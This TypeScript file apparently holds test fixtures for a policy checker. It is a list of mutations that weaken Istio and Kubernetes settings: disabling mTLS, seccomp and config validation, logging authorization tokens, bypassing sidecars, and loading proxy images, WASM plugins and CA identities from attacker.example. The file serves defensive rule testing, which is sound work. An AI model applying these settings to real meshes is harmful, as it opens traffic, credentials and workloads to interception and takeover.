/** The control plane's and the gateway's charts, and what their values make of proxies. */
import type { Mutation } from "./mutation";

const rule = "mesh-configuration";
const istiod = { rule, of: "Release istio-istiod" };
const gateway = { rule, of: "Release istio-gateway" };
const details = { rule: "namespace-injection", of: "Deployment bookinfo-details-v1" };

const value = (weakening: string, path: readonly string[], set: unknown): Mutation => ({
  weakening,
  ...istiod,
  at: ["values", ...path],
  value: set,
});
const injected = (weakening: string, annotations: object) =>
  value(weakening, ["sidecarInjectorWebhook", "injectedAnnotations"], annotations);
const variable = (weakening: string, name: string, set: string | undefined) =>
  value(weakening, ["env", name], set);
const config = (weakening: string, path: readonly string[], set: unknown) =>
  value(weakening, ["meshConfig", ...path], set);
const annotation = (weakening: string, name: string, set: string): Mutation => ({
  weakening,
  ...details,
  at: ["spec", "template", "metadata", "annotations"],
  value: { [name]: set },
});
const object = (
  weakening: string,
  type: string,
  spec: object,
  namespace = "bookinfo",
): Mutation => ({
  weakening,
  rule,
  added: {
    type: `kubernetes:${type}`,
    name: "weaker",
    provider: "cluster",
    inputs: { metadata: { name: "weaker", namespace }, spec },
  },
});

export const istiodMutations: readonly Mutation[] = [
  value("any call of the kernel by the control plane", ["seccompProfile"], undefined),
  value("any call of the kernel by sidecars", ["global", "proxy", "seccompProfile"], {
    type: "Unconfined",
  }),
  value(
    "any call of the kernel by sidecars, as nothing is said",
    ["global", "proxy", "seccompProfile"],
    undefined,
  ),
  {
    weakening: "any call of the kernel by the gateway, as nothing is said",
    ...gateway,
    at: ["values", "securityContext", "seccompProfile"],
    value: undefined,
  },
  {
    weakening: "a gateway that changes its own files",
    ...gateway,
    at: ["values", "containerSecurityContext"],
    value: { readOnlyRootFilesystem: false },
  },
  {
    weakening: "a gateway with a capability",
    ...gateway,
    at: ["values", "containerSecurityContext"],
    value: { capabilities: { add: ["NET_ADMIN"] } },
  },
  injected("a port of every pod past its sidecar, by an annotation of the injector", {
    "traffic.sidecar.istio.io/excludeInboundPorts": "9080",
  }),
  injected("no sidecar in any pod, by an annotation of the injector", {
    "sidecar.istio.io/inject": "false",
  }),
  injected("another configuration of every sidecar", {
    "proxy.istio.io/config": "interceptionMode: NONE",
  }),
  injected("another program for every sidecar", {
    "sidecar.istio.io/proxyImage": "attacker.example/proxy:1.0.0",
  }),
  value("other containers for sidecars", ["sidecarInjectorWebhook", "templates"], {
    sidecar: "spec: {}",
  }),
  value(
    "other templates by default",
    ["sidecarInjectorWebhook", "defaultTemplates"],
    ["grpc-agent"],
  ),
  value("an annotation by the chart's older names", ["pilot"], {
    sidecarInjectorWebhook: {
      injectedAnnotations: { "traffic.sidecar.istio.io/includeInboundPorts": "" },
    },
  }),
  value("calls past every sidecar", ["global", "proxy", "excludeOutboundPorts"], "9080"),
  value(
    "calls to addresses past every sidecar",
    ["global", "proxy", "excludeIPRanges"],
    "10.0.0.0/8",
  ),
  value("tokens in every sidecar's log", ["global", "proxy", "logLevel"], "debug"),
  value("tokens in a component's log", ["global", "proxy", "componentLogLevel"], "http:trace"),
  value("privileged sidecars", ["global", "proxy", "privileged"], true),
  value("another control plane for sidecars", ["istiodRemote", "enabled"], true),
  value("identities of another authority", ["global", "caAddress"], "ca.attacker.example:15012"),
  value("objects that Istio cannot read", ["global", "configValidation"], false),
  value("the mesh's configuration from another program", ["configMap"], false),
  value("what later versions closed", ["compatibilityVersion"], "1.25"),
  value("a demonstration's profile", ["profile"], "demo"),
  value("arguments of the control plane", ["extraContainerArgs"], ["--httpAddr=:8080"]),
  value("a value that Istio's chart does not have", ["weakenEverything"], true),
  config("path normalization removed", ["pathNormalization"], undefined),
  config("slashes not merged", ["pathNormalization", "normalization"], "BASE"),
  config("no access log", ["accessLogFile"], undefined),
  config("an access log to nowhere", ["accessLogFile"], ""),
  config("tokens in the access log", ["accessLogFormat"], "%REQ(AUTHORIZATION)% %PROTOCOL%"),
  config("plain text between services", ["enableAutoMtls"], false),
  config("identities of another authority as well", ["caCertificates"], [{ pem: "…" }]),
  config("policies from somewhere else", ["configSources"], [{ address: "attacker.example:9901" }]),
  config("another namespace's policies for the mesh", ["rootNamespace"], "default"),
  config("sidecars that catch nothing", ["defaultConfig", "interceptionMode"], "NONE"),
  config(
    "another control plane for every sidecar",
    ["defaultConfig", "discoveryAddress"],
    "a:15012",
  ),
  config("Envoy's protections off", ["defaultConfig", "runtimeValues"], {
    "envoy.reloadable_features.reject_invalid_yaml": "false",
  }),
  config("a client says which address it has", ["defaultConfig", "gatewayTopology"], {
    numTrustedProxies: 3,
  }),
  config("a client says whose certificate it has", ["defaultConfig", "gatewayTopology"], {
    forwardClientCertDetails: "ALWAYS_FORWARD_ONLY",
  }),
  config("escaped slashes kept", ["defaultConfig", "connectionSettings"], {
    httpPathWithEscapedSlashesAction: "KEEP_UNCHANGED",
  }),
  config("tokens in traces", ["defaultConfig", "tracing"], {
    customTags: { token: { header: { name: "authorization" } } },
  }),
  config("a variable for every sidecar", ["defaultConfig", "proxyMetadata"], {
    ISTIO_BOOTSTRAP_OVERRIDE: "/etc/bootstrap.json",
  }),
  variable("gateways of any namespace", "PILOT_SCOPE_GATEWAY_TO_NAMESPACE", undefined),
  variable("keys from any host on the way", "JWKS_RESOLVER_INSECURE_SKIP_VERIFY", "true"),
  variable("revoked keys for a day", "PILOT_JWT_PUB_KEY_REFRESH_INTERVAL", "24h"),
  variable(
    "policies not read",
    "PILOT_IGNORE_RESOURCES",
    "authorizationpolicies.security.istio.io",
  ),
  variable("another namespace's policies only", "ISTIO_WATCH_NAMESPACE", "default"),
  variable("configuration for any client", "XDS_AUTH", "false"),
  variable("another pod's configuration", "PILOT_ENABLE_XDS_IDENTITY_CHECK", "false"),
  variable("dangerous endpoints", "UNSAFE_ENABLE_ADMIN_ENDPOINTS", "true"),
  variable("debug endpoints for any namespace", "ENABLE_DEBUG_ENDPOINT_AUTH", "false"),
  variable("a variable that istiod does not have", "PILOT_WEAKEN", "true"),
  object("requests without a trace, by a Telemetry", "telemetry.istio.io/v1:Telemetry", {
    accessLogging: [{ disabled: true }],
  }),
  object("some requests without a trace", "telemetry.istio.io/v1:Telemetry", {
    accessLogging: [{ filter: { expression: "response.code >= 500" } }],
  }),
  object("a plug-in of every proxy", "extensions.istio.io/v1alpha1:WasmPlugin", {
    url: "oci://attacker.example/plugin:1.0.0",
  }),
  object("a script of every proxy", "extensions.istio.io/v1alpha1:TrafficExtension", {
    lua: { inlineCode: "" },
  }),
  object("a variable of a namespace's proxies", "networking.istio.io/v1beta1:ProxyConfig", {
    environmentVariables: { CA_ADDR: "ca.attacker.example:15012" },
  }),
  object("a listener with TLS of its own", "networking.istio.io/v1:Sidecar", {
    ingress: [{ port: { number: 9080 }, tls: { mode: "SIMPLE" } }],
  }),
  {
    weakening: "the gateway with another configuration",
    ...gateway,
    at: ["values", "podAnnotations"],
    value: { "proxy.istio.io/config": '{"customConfigFile":"/etc/envoy.json"}' },
  },
  {
    weakening: "a gateway that no policy selects",
    ...gateway,
    at: ["values", "labels"],
    value: { istio: "other" },
  },
  {
    weakening: "a container next to the gateway",
    ...gateway,
    at: ["values", "additionalContainers"],
    value: [{ name: "more", image: "attacker.example/more:1.0.0" }],
  },
  {
    weakening: "a gateway to other networks",
    ...gateway,
    at: ["values", "networkGateway"],
    value: "network2",
  },
  {
    weakening: "a gateway that obeys another authority",
    ...gateway,
    at: ["values", "env"],
    value: { CA_ADDR: "ca.attacker.example:15012" },
  },
];

/** What a pod's own template can weaken. */
export const templateMutations: readonly Mutation[] = [
  annotation("another bootstrap of a sidecar", "sidecar.istio.io/bootstrapOverride", "bootstrap"),
  annotation(
    "a sidecar of another program",
    "sidecar.istio.io/proxyImage",
    "a.example/proxy:1.0.0",
  ),
  annotation(
    "a sidecar that obeys another",
    "sidecar.istio.io/discoveryAddress",
    "a.example:15012",
  ),
  annotation("a sidecar's own configuration", "proxy.istio.io/config", "interceptionMode: NONE"),
  annotation("a sidecar's configuration that is no YAML", "proxy.istio.io/config", "{"),
  annotation("parts of a sidecar replaced", "proxy.istio.io/overrides", '{"containers":[]}'),
  annotation("a folder of a sidecar's", "sidecar.istio.io/userVolumeMount", "[]"),
  annotation("a sidecar that counts as injected", "sidecar.istio.io/status", "{}"),
  annotation("calls past a sidecar", "traffic.sidecar.istio.io/excludeOutboundPorts", "9080"),
  annotation("tokens in a sidecar's log", "sidecar.istio.io/logLevel", "trace"),
  annotation("an annotation that Istio does not have", "sidecar.istio.io/weaken", "true"),
  {
    weakening: "plain text to a pod, by its label",
    ...details,
    at: ["spec", "template", "metadata", "labels", "security.istio.io/tlsMode"],
    value: "disabled",
  },
  {
    weakening: "a container in the sidecar's place",
    ...details,
    at: ["spec", "template", "spec", "containers", 1],
    value: { name: "istio-proxy", image: "attacker.example/proxy:1.0.0" },
  },
  {
    weakening: "a container that counts as the sidecar",
    ...details,
    at: ["spec", "template", "spec", "containers", 0, "securityContext", "runAsUser"],
    value: 1337,
  },
];
